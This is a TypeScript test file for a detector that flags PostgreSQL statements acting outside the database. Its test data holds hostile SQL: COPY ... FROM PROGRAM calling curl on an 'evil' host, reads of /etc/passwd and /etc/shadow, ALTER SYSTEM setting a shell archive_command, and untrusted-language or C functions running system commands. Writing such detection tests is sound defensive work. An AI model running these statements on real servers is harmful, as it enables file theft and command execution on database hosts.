import { beforeAll, describe, expect, it } from 'vitest';
import { outsideDatabaseStatements } from '../../../src/engines/sql/outside-database.js';
import { lineAndColumn, loadParser } from '../../../src/engines/sql/sql-script.js';

beforeAll(() => loadParser());

const whats = (sql: string): string[] => outsideDatabaseStatements(sql).map((s) => s.what);

describe('outsideDatabaseStatements', () => {
  it.each([
    ["COPY (SELECT 1) TO PROGRAM 'touch /dev/shm/x'", /COPY \.\.\. TO PROGRAM runs a program/],
    ["COPY t FROM PROGRAM 'curl http://evil'", /COPY \.\.\. FROM PROGRAM/],
    ["COPY t FROM '/etc/passwd'", /COPY \.\.\. FROM '\/etc\/passwd' reads a server file/],
    ["COPY t TO '/tmp/out.csv' (FORMAT csv)", /writes a server file/],
    ["SELECT lo_import('/etc/passwd')", /^lo_import\(\) reads a server file$/],
    ["SELECT lo_export(16384, '/tmp/x')", /^lo_export\(\) writes a server file$/],
    ["SELECT pg_read_file('/etc/hostname')", /^pg_read_file\(\)/],
    ["SELECT pg_catalog.pg_read_binary_file('x')", /^pg_read_binary_file\(\)/],
    ['SELECT * FROM pg_ls_dir(\'.\')', /^pg_ls_dir\(\) lists a server directory$/],
    ["ALTER SYSTEM SET archive_command = 'sh -c evil'", /^ALTER SYSTEM/],
    ['CREATE LANGUAGE plperlu', /plperlu: an untrusted language/],
    ['CREATE EXTENSION plpython3u', /plpython3u/],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$', /CREATE FUNCTION in plpython3u, an untrusted language/],
    ["CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c", /CREATE FUNCTION in c/],
    ["DO LANGUAGE plperlu $$ system('id') $$", /DO block in plperlu/],
    ['CREATE EXTENSION dblink', /CREATE EXTENSION dblink: connections to other servers/],
    ['CREATE EXTENSION IF NOT EXISTS postgres_fdw', /postgres_fdw/],
    ["CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.internal')", /CREATE SERVER \.\.\. FOREIGN DATA WRAPPER postgres_fdw/],
    ["SELECT dblink_connect('c', 'host=10.0.0.1 dbname=prod')", /^dblink_connect\(\) connects to another server$/],
    ["SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", /^dblink\(\) connects/],
    ["CREATE VIEW v AS SELECT pg_read_file('/etc/passwd') AS p", /^pg_read_file\(\)/],
    ["CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", /^pg_read_file\(\)/],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM lo_import('/etc/passwd'); END $$", /lo_import\(\) reads a server file \(in a function body\)/],
    ["DO $$ BEGIN EXECUTE 'x'; COPY t TO PROGRAM 'id'; END $$", /COPY \.\.\. PROGRAM .*in a function body/],
  ])('%s', (sql, expected) => {
    const found = whats(sql);
    expect(found.length, `nothing found in: ${sql}`).toBeGreaterThan(0);
    expect(found.some((w) => expected.test(w)), `${found.join(' | ')}`).toBe(true);
  });

  it.each([
    'CREATE TABLE t (id int PRIMARY KEY, payload text)',
    'COPY t FROM STDIN',
    'COPY (SELECT 1) TO STDOUT',
    "INSERT INTO t VALUES (1, 'COPY t TO PROGRAM ''x''')",
    'CREATE EXTENSION pgcrypto',
    'CREATE EXTENSION IF NOT EXISTS "uuid-ossp"',
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    'CREATE FUNCTION g() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.x := lower(NEW.x); RETURN NEW; END $$',
    "SELECT lo_create(0), pg_size_pretty(pg_database_size(current_database()))",
    'ALTER TABLE t SET (fillfactor = 70)',
    "SET lock_timeout = '5s'",
    'not valid sql at all (',
  ])('leaves alone: %s', (sql) => {
    expect(whats(sql)).toEqual([]);
  });

  it('gives each statement its offset in the script, once per statement and effect', () => {
    const sql = "CREATE TABLE a (id int);\n\n-- read the password file\nSELECT pg_read_file('/etc/passwd'), pg_read_file('/etc/shadow');\nCOPY a TO PROGRAM 'id';\n";
    const found = outsideDatabaseStatements(sql);
    expect(found.map((f) => lineAndColumn(sql, f.offset).line)).toEqual([4, 5]);
    expect(found.map((f) => f.what)).toEqual(['pg_read_file() reads a server file', 'COPY ... TO PROGRAM runs a program on the database server']);
  });
});
